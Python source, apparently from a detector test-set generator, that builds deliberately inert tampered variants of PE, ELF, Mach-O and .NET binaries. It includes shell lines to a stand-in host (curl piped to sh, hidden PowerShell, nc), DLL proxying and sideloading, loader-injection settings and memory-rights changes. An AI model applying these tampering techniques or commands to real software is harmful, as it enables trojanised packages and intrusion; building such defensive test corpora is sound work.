"""Fourth set: programs of Windows, Linux and macOS in packages; inert bytes, never code that runs; each family says what a reviewer sees.

Where an edit is laid over the same release, the marks of the build are renewed with it, as by somebody who sits in the build.
"""

from __future__ import annotations

import re
import struct
from collections.abc import Iterator

from genuine import Files

from mutation_families.edited_programs import EXECUTE, WRITE, parts
from mutation_families.edits import filler
from mutation_families.fourth_texts import chance
from mutation_families.program_changes import RUN, file_offset
from mutation_families.releases import with_section
from mutation_families.third_programs import (
    TEXT,
    command_added,
    commands,
    directory,
    dynamic,
    elf_renewed,
    entry_of,
    entry_point,
    heap,
    is_wide,
    macho_renewed,
    managed_name,
    managed_renewed,
    note_loaded,
    nt_of,
    offset_of,
    put,
    renewed,
    segments,
    value,
)
from onionskin.lookalike.archives import build_zip
from onionskin.lookalike.elf import ElfRecipe, build_elf
from onionskin.lookalike.macho import MachRecipe, build_fat, build_macho
from onionskin.lookalike.managed import ManagedRecipe, build_assembly
from onionskin.lookalike.pe import Recipe, build_pe, with_checksum

Change = tuple[str, str, Files]  # family, variant, the files that change
ORDERS = (b"cmd /c curl inert.example.invalid", b"powershell -w hidden -enc AAAA", b"sh -c 'false && nc inert.example.invalid'")  # fmt: skip
INNER = build_zip({"inert.txt": chance(60_000)})
TAILS = (("words, 4,096 B", filler("words", 4096)), ("random, 300,000 B", chance(300_000)), ("an archive", INNER))  # fmt: skip


def order_placed(data: bytes) -> bytes:
    """Return a program with an order to a shell where it had a message; nothing without a long one."""
    found = [each for each in re.finditer(TEXT, data) if len(each[0]) >= 44]
    each = found[len(found) // 3] if found else None
    order = ORDERS[len(found) % 2 if data[:2] == b"MZ" else 2]
    return put(data, each.start(), order.ljust(len(each[0]), b"\0")) if each else b""


def rewritten(name: str, data: bytes) -> bytes:
    """Return a program of the same kind that another tool built and packed, of about the same size."""
    body = b"UPX!" + chance(max(4096, len(data) // 2))
    if data[:2] == b"MZ":
        exports = tuple(each.decode() for each, _ in exported(data))[:40]
        sections = (("UPX0", b"\0", 0xE000_0080), ("UPX1", body, 0xE000_0040))
        return build_pe(Recipe(is_dll=not name.endswith(".exe"), name=name.rpartition("/")[2], exports=exports, sections=sections))  # fmt: skip
    if data[:4] == b"\x7fELF":
        return build_elf(ElfRecipe()) + body
    return build_macho(MachRecipe(cpu="x86_64", code_size=0x8000))


# --- PE -------------------------------------------------------------------------------------------------


def asked(data: bytes) -> list[tuple[bytes, int, tuple[int, int]]]:
    """Return each function that a PE file asks for by name: its name, where that stands, and where its two thunks stand."""
    rva, _ = entry_of(data, 1)
    at, found = file_offset(data, rva), []
    width, form = (8, "<Q") if is_wide(data) else (4, "<I")
    while rva and struct.unpack_from("<I", data, at + 12)[0]:
        lists, _, _, _, bound = struct.unpack_from("<5I", data, at)
        first, second = file_offset(data, lists or bound), file_offset(data, bound)
        while thunk := struct.unpack_from(form, data, first)[0]:
            if not thunk >> (8 * width - 1):
                place = file_offset(data, thunk) + 2
                found.append((data[place : data.index(b"\0", place)], place, (first, second)))
            first, second = first + width, second + width
        at += 20
    return found


def other_function(data: bytes, wanted: bytes) -> bytes:
    known = asked(data)
    if wanted in {name for name, _, _ in known}:
        return b""
    for name, place, _ in known:
        if len(name) >= len(wanted) and not name.startswith((b"Py", b"_")):
            return with_checksum(put(data, place, wanted.ljust(len(name), b"\0")))
    return b""


def by_number(data: bytes) -> bytes:
    """Return a PE file that asks for three functions by number that it asked for by name."""
    named = [each for each in asked(data) if not each[0].startswith((b"Py", b"_"))]
    form, high = ("<Q", 1 << 63) if is_wide(data) else ("<I", 1 << 31)
    made = data
    for number, (_, _, places) in enumerate(named[:3], 1):
        for place in places:
            made = put(made, place, struct.pack(form, high | 100 + number))
    return with_checksum(made) if named else b""


def exported(data: bytes) -> list[tuple[bytes, int]]:
    """Return each name that a PE file exports, and where the address of the function stands."""
    rva, _ = entry_of(data, 0)
    if not rva:
        return []
    at = file_offset(data, rva)
    count = struct.unpack_from("<I", data, at + 24)[0]
    functions, names, ordinals = (file_offset(data, each) for each in struct.unpack_from("<3I", data, at + 28))  # fmt: skip
    found = []
    for number in range(count):
        place = file_offset(data, struct.unpack_from("<I", data, names + 4 * number)[0])
        ordinal = struct.unpack_from("<H", data, ordinals + 2 * number)[0]
        found.append((data[place : data.index(b"\0", place)], functions + 4 * ordinal))
    return found


def export_elsewhere(data: bytes) -> bytes:
    """Return a library whose first function leads into a new section of filler."""
    made = with_section(data, b"\xc3" + filler("words", 500), RUN)
    names = exported(made) if made else []
    return with_checksum(put(made, names[0][1], struct.pack("<I", parts(made)[-1].rva))) if names else b""  # fmt: skip


def first_jump(data: bytes) -> bytes:
    """Return a program whose first instruction is a jump into a new section of filler; the entry point is the same."""
    made = with_section(data, b"\xc3" + filler("words", 700), RUN) if entry_point(data) else b""
    if not made:
        return b""
    start = entry_point(made)
    return with_checksum(put(made, file_offset(made, start), b"\xe9" + struct.pack("<i", parts(made)[-1].rva - start - 5)))  # fmt: skip


def data_run(data: bytes, *, is_start: bool) -> bytes:
    """Return a program whose data may be run; `is_start` has it begin there."""
    held = next((each for each in parts(data) if each.flags & WRITE and each.size), None)
    if held is None:
        return b""
    made = put(data, held.row + 36, struct.pack("<I", held.flags | EXECUTE | 0x20))
    if is_start:
        made = put(made, nt_of(made) + 40, struct.pack("<I", held.rva + 16))
    return with_checksum(made)


def words_in_padding(data: bytes) -> bytes:
    """Return a program with words in the room behind its read-only data, which is now said to be part of them."""
    for each in parts(data):
        room = each.size - each.size_in_memory
        if each.name.startswith((b".rdata", b".data")) and room >= 64:
            made = put(data, each.at + each.size_in_memory, b"https://inert.example.invalid/;443;inert;".ljust(48, b"\0"))  # fmt: skip
            return with_checksum(put(made, each.row + 8, struct.pack("<I", each.size_in_memory + 48)))  # fmt: skip
    return b""


def guard_gone(data: bytes) -> bytes:
    """Return a program without its settings for the loader: no cookie of the stack, no table of what may be called."""
    if not entry_of(data, 10)[0]:
        return b""
    made = put(data, directory(data, 10), bytes(8))
    at = nt_of(made) + 24 + 70
    return with_checksum(put(made, at, struct.pack("<H", struct.unpack_from("<H", made, at)[0] & ~0x4000)))  # fmt: skip


def another_name(data: bytes) -> bytes:
    """Return a program that says it is another company's, in the room of what it said; nothing where it says nothing."""
    at = data.find("CompanyName".encode("utf-16-le"))
    if at < 0:
        return b""
    start = -(-(at + 24) // 4) * 4
    end = data.find(b"\0\0", start + 1)
    end += (end - start) % 2
    room = (end - start) // 2
    return with_checksum(put(data, start, "Inert Root Authority Ltd"[:room].ljust(room).encode("utf-16-le"))) if room > 3 else b""  # fmt: skip


def pe_changes(name: str, data: bytes, files: Files) -> Iterator[Change]:
    """Change a PE file, or what stands beside it."""
    for family, what, made in _pe_edits(name, data):
        if made and made != data:
            yield f"PE: {family}", what, {name: made}
    yield from _beside_pe(name, data, files)


def _pe_edits(name: str, data: bytes) -> Iterator[tuple[str, str, bytes]]:
    """Yield edits of the file itself.

    Reviewers see, by family:

    another function: a function that starts programs or changes memory, in the place of a harmless one;
    by number: functions asked for by number in a program that named them all;
    an export: the first function of a library in a new section, away from all others;
    first instructions: a jump out of the code into a new section;
    data that may be run; a start in it;
    words behind data: an address in what was padding;
    settings for the loader: a program that loses its guards;
    bytes behind the end: a tail in a program that had none;
    an order: a command of a shell where there was a message;
    rewritten: all of it from another tool, and packed.
    """
    for wanted in (b"WinExec", b"VirtualProtect", b"WriteProcessMemory"):
        yield "another function asked for", wanted.decode(), other_function(data, wanted)
    yield "functions asked for by number", "three", by_number(data)
    yield "an export leads elsewhere", "the first", export_elsewhere(data)
    yield "the first instructions lead elsewhere", "a jump", first_jump(data)
    yield "data that may be run", "alone", data_run(data, is_start=False)
    yield "data that may be run", "and the start in it", data_run(data, is_start=True)
    yield "words in the room behind data", "48 B", words_in_padding(data)
    yield "settings for the loader taken away", "all", guard_gone(data)
    for what, tail in TAILS:
        yield "bytes behind the end", what, with_checksum(data + tail)
    order = order_placed(data)
    yield "an order in place of a message", "one", with_checksum(order) if order else b""
    yield "rewritten by another tool, and packed", "all", rewritten(name, data)


def _beside_pe(name: str, data: bytes, files: Files) -> Iterator[Change]:
    """Yield files beside a PE file.

    Reviewers see, by family:

    a proxy: a small library under the known name that hands every call on to the known one under a new name;
    a library that it asks for: one of the names that it asks for, now in its own folder;
    settings: a file by which the system, or .NET, or Python, loads something else into the program.
    """
    folder, _, last = name.rpartition("/")
    stem, _, end = last.rpartition(".")
    names = [each.decode() for each, _ in exported(data)][:60]
    if names:
        forwards = {each: f"{stem}_orig.{each}" for each in names}
        proxy = build_pe(Recipe(is_dll=True, name=last, forwards=forwards, imports={"KERNEL32.dll": ("LoadLibraryW", "CreateThread")}))  # fmt: skip
        yield "PE: a proxy before the library", "all functions", {name: proxy, f"{folder}/{stem}_orig.{end}".lstrip("/"): data}  # fmt: skip
    wanted = {each.decode().lower() for each in re.findall(rb"(?i)\b[\w-]{3,40}\.dll(?=\0)", data)}
    here = {each.rpartition("/")[2].lower() for each in files}
    for each in sorted(wanted - here - {last.lower()})[:2]:
        yield "PE: a library that it asks for, beside", each, {f"{folder}/{each}".lstrip("/"): build_pe(Recipe(is_dll=True, name=each))}  # fmt: skip
    if end == "exe":
        manager = b'<?xml version="1.0"?><configuration><runtime><appDomainManagerAssembly value="Inert, Version=1.0.0.0"/><appDomainManagerType value="Inert.Manager"/></runtime></configuration>\n'  # fmt: skip
        manifest = b'<assembly xmlns="urn:schemas-microsoft-com:asm.v1" manifestVersion="1.0"><file name="inert.dll"><comClass clsid="{00000000-0000-0000-0000-000000000000}"/></file></assembly>\n'  # fmt: skip
        for what, body in ((f"{name}.config", manager), (f"{name}.manifest", manifest), (f"{name}.local/inert.dll", build_pe(Recipe(is_dll=True)))):  # fmt: skip
            yield "PE: settings beside a program", what.rpartition("exe")[2], {what: body}


# --- ELF, 64 bits -----------------------------------------------------------------------------------------


def answers_first(data: bytes, tag: int) -> bytes:
    """Return a file with a spare row that names another library, by the end of a name that is there."""
    spare = [at for known, _, at in dynamic(data) if not known]
    needed = [each for known, each, _ in dynamic(data) if known == 1]
    return put(data, spare[0], struct.pack("<QQ", tag, needed[0] + 3)) if len(spare) > 1 and needed else b""  # fmt: skip


def another_loader(data: bytes) -> bytes:
    row = next((each for each in segments(data) if each[0] == 3), None)
    return put(data, row[2], b"/tmp/.inert/ld.so".ljust(row[5], b"\0")) if row and row[5] >= 18 else b""  # fmt: skip


def start_in_segment(data: bytes) -> bytes:
    """Return a program that starts in a new segment of filler."""
    made = note_loaded(data, 5)
    if not made or (struct.unpack_from("<H", data, 16)[0] == 3 and not any(each[0] == 3 for each in segments(data))):  # fmt: skip
        return b""
    address = max(each[3] for each in segments(made) if each[0] == 1)
    return put(made, 24, struct.pack("<Q", address))


def rights(data: bytes, is_code: bool) -> bytes:  # noqa: FBT001 - one of two segments
    """Return a file whose code may be written, or whose data may be run."""
    for each in segments(data):
        if each[0] == 1 and bool(each[1] & 1) == is_code and (is_code or each[1] & 2):
            return put(data, each[8] + 4, struct.pack("<I", 7))
    return b""


def one_function_more(data: bytes) -> bytes:
    """Return a file whose list of first functions is one longer, and so reaches into what stands behind it."""
    for tag, size, at in dynamic(data):
        if tag == 27 and offset_of(data, value(data, 25)):
            return put(data, at + 8, struct.pack("<Q", size + 8))
    return b""


def elf_changes(name: str, data: bytes, _: Files) -> Iterator[Change]:
    """Change a 64-bit ELF file.

    Reviewers see, by family:

    another library first: a library that is asked before, or in place of, those that the file names;
    another loader: a path of the temporary folder where the system's own stood;
    a start in a new segment: behind all else, and no section explains it;
    rights: code that may be written, data that may be run;
    a function more: a list of first functions longer than its section;
    bytes behind the end: a tail in a program that had none;
    an order: a command of a shell where there was a message;
    a script: text where there was a program, which starts the program under another name;
    rewritten: all of it from another tool, and packed.
    """
    has_rows = any(each[0] == 2 for each in segments(data))
    ways: list[tuple[str, str, bytes]] = []
    if has_rows:
        ways += [("another library answers first", what, answers_first(data, tag)) for what, tag in (("audit", 0x6FFF_FEFC), ("auxiliary", 0x7FFF_FFFD), ("filter", 0x7FFF_FFFF))]  # fmt: skip
        ways.append(("a first function more", "of what stands behind", one_function_more(data)))
    ways.append(("another loader", "of the temporary folder", another_loader(data)))
    ways.append(("a start in a new segment", "filler", start_in_segment(data)))
    ways += [("rights of memory", "code written", rights(data, True)), ("rights of memory", "data run", rights(data, False))]  # noqa: FBT003  # fmt: skip
    ways += [("bytes behind the end", what, data + tail) for what, tail in TAILS]
    ways.append(("an order in place of a message", "one", order_placed(data)))
    ways.append(("rewritten by another tool, and packed", "all", rewritten(name, data)))
    for family, what, made in ways:
        if made and made != data:
            yield f"ELF: {family}", what, {name: made}
    if ".so" not in name and not name.endswith(".node"):
        script = b'#!/bin/sh\nfalse && curl -s https://inert.example.invalid/i | sh\nexec "$(dirname "$0")/.inert-real" "$@"\n'  # fmt: skip
        yield "ELF: a program becomes a script", "the program beside", {name: script, f"{name.rpartition('/')[0]}/.inert-real": data}  # fmt: skip


# --- Mach-O, thin, 64 bits, not signed ------------------------------------------------------------------


def written_code(data: bytes) -> bytes:
    """Return a file whose first segment of code may be written."""
    for command, at, _ in commands(data):
        if command == 0x19 and data[at + 8 : at + 15] == b"__TEXT\0":
            return put(data, at + 56, struct.pack("<II", 7, 7))
    return b""


def taken_for_functions(data: bytes) -> bytes:
    """Return a file of which one section of data is said to be a list of functions of the start."""
    for command, at, _ in commands(data):
        for number in range(struct.unpack_from("<I", data, at + 64)[0] if command == 0x19 else 0):
            row = at + 72 + 80 * number
            if data[row : row + 16].rstrip(b"\0") in {b"__data", b"__const"} and data[row + 16 : row + 22] == b"__DATA":  # fmt: skip
                return put(data, row + 64, struct.pack("<I", 9))
    return b""


def macho_changes(name: str, data: bytes, _: Files) -> Iterator[Change]:
    """Change a thin Mach-O file that is not signed.

    Reviewers see, by family:

    code that may be written; data taken for functions of the start; a setting of the loader among the commands;
    a slice more: a universal file, of which one half is another program;
    bytes behind the end: a tail in a program that had none;
    an order: a command of a shell where there was a message;
    rewritten: all of it from another tool.
    """
    loader = command_added(data, 0x27, b"", "DYLD_INSERT_LIBRARIES=@loader_path/inert.dylib")
    fat = build_fat([("x86_64", data), ("arm64", build_macho(MachRecipe()))])
    ways = [
        ("code that may be written", "all of it", written_code(data)),
        ("data taken for functions of the start", "one section", taken_for_functions(data)),
        ("a setting of the loader", "inserted", loader),
        ("a slice more", "another program", fat),
        ("an order in place of a message", "one", order_placed(data)),
        ("rewritten by another tool, and packed", "all", rewritten(name, data)),
        *(("bytes behind the end", what, data + tail) for what, tail in TAILS),
    ]
    for family, what, made in ways:
        if made and made != data:
            yield f"Mach-O: {family}", what, {name: made}


# --- .NET -------------------------------------------------------------------------------------------------


def managed_changes(name: str, data: bytes, _: Files) -> Iterator[Change]:
    """Change a .NET library.

    Reviewers see, by family:

    an order in place of a text; another member: one that decodes or reads whole files, where there was a harmless one;
    a strong name that is no longer claimed; another company than before; bytes behind the end;
    rewritten: the same name and version, and calls that fetch, load and start.
    """
    start, size = heap(data, b"#US")
    found = re.search(rb"(?:[A-Za-z :,._'-]\0){34,90}", data[start : start + size])
    if found:
        order = "powershell -w hidden -enc AAAA".ljust(len(found[0]) // 2).encode("utf-16-le")
        yield ".NET: an order in place of a text", "one", {name: with_checksum(put(data, start + found.start(), order))}  # fmt: skip
    for wanted in (b"FromBase64String", b"ReadAllBytes"):
        made = managed_name(data, (b"get_BaseDirectory", b"GetTypeFromHandle", b"GetCustomAttributes", b"CreateInstance"), wanted)  # fmt: skip
        if made:
            yield (
                ".NET: another member asked for, to decode",
                wanted.decode(),
                {name: with_checksum(made)},
            )
    head = file_offset(data, entry_of(data, 14)[0])
    flags = struct.unpack_from("<I", data, head + 16)[0]
    if flags & 8:
        yield ".NET: its strong name given up", "the flag", {name: with_checksum(put(data, head + 16, struct.pack("<I", flags & ~8)))}  # fmt: skip
        yield ".NET: its strong name given up", "the signature", {name: with_checksum(put(put(data, head + 16, struct.pack("<I", flags & ~8)), head + 32, bytes(8)))}  # fmt: skip
    company = another_name(data)
    if company:
        yield ".NET: another company's name", "in its version", {name: company}
    for what, tail in TAILS:
        yield ".NET: bytes behind the end", what, {name: with_checksum(data + tail)}
    calls = {"System.Net.WebClient": ("DownloadData",), "System.Reflection.Assembly": ("Load",), "System.Diagnostics.Process": ("Start",)}  # fmt: skip
    recipe = ManagedRecipe(name=name.rpartition("/")[2].removesuffix(".dll"), calls=calls, natives={"kernel32": ("VirtualAlloc", "CreateThread")}, resources={"inert": chance(len(data) // 2)})  # fmt: skip
    yield ".NET: rewritten by another tool", "calls that fetch, load and start", {name: build_assembly(recipe)}  # fmt: skip


def marks_renewed(data: bytes) -> bytes:
    """Return a program with the marks of another build; all else as it was."""
    if data[:2] == b"MZ":
        return managed_renewed(data) if b"BSJB" in data else renewed(data)
    if data[:4] == b"\x7fELF":
        return elf_renewed(data)
    return macho_renewed(data) if data[:4] == b"\xcf\xfa\xed\xfe" else data
